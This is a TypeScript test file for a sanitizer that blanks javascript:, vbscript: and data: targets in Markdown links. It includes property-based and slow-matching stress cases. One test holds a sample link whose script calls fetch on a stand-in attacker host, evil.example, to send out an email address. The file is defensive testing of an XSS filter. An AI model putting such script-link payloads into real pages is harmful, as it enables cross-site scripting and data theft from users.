import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { withoutScriptLinks } from '../../lib/postings/without-script-links';

const SCHEME_LEFT = /\b(?:javascript|vbscript|data)\s*:/i;
// Pieces of links, schemes, quotes and brackets: random bodies hit the nested and unclosed cases.
const PIECE = fc.constantFrom(
  'javascript:', 'data :', 'VBScript:', ' ', '(', ')', '"', "'", '`', 'a', '\n', 'x@y.fr', '](', '[', ']',
  'https://a.fr', 'mailto:b@c.fr', '<', '>', 'href=', '=', ':', '\t', 'é',
);
const body = fc.array(PIECE, { maxLength: 40 }).map((pieces) => pieces.join(''));

describe('withoutScriptLinks', () => {
  it('blanks a script target in a Markdown link and keeps a web one', () => {
    const text = "[Postuler](javascript:fetch('https://evil.example/x@y.fr')) ou [site](https://a.fr/(b))";
    const blanked = withoutScriptLinks(text);
    expect(blanked).not.toContain('x@y.fr');
    expect(blanked).toContain('[site](https://a.fr/(b))');
  });

  it('keeps length and line breaks, only blanks characters, and leaves no script scheme', () => {
    fc.assert(
      fc.property(body, (text) => {
        const blanked = withoutScriptLinks(text);
        expect(blanked).toHaveLength(text.length);
        for (let index = 0; index < text.length; index++) {
          if (blanked[index] !== text[index]) expect([blanked[index], text[index]]).toEqual([' ', expect.not.stringMatching(/\n/)]);
        }
        expect(blanked).not.toMatch(SCHEME_LEFT);
      }),
      { numRuns: 1000 },
    );
  });

  // Hostile shapes that read each target's rest again (timed in a scratch script, not here).
  it.each([
    ['schemes run together', 'javascript:'.repeat(3000), ' '.repeat(33_000)],
    ['web targets nested in web targets', '](https://a'.repeat(3000), '](https://a'.repeat(3000)],
    ['script targets nested in a web target', '[a](https://a.fr/' + '[b](javascript:x)'.repeat(2000) + ')', '[a](https://a.fr/' + '[b](            )'.repeat(2000) + ')'],
    ['many script links', '[a](javascript:x) '.repeat(3000), '[a](            ) '.repeat(3000)],
  ])('%s', (_shape, text, expected) => {
    expect(withoutScriptLinks(text)).toBe(expected);
  });
});
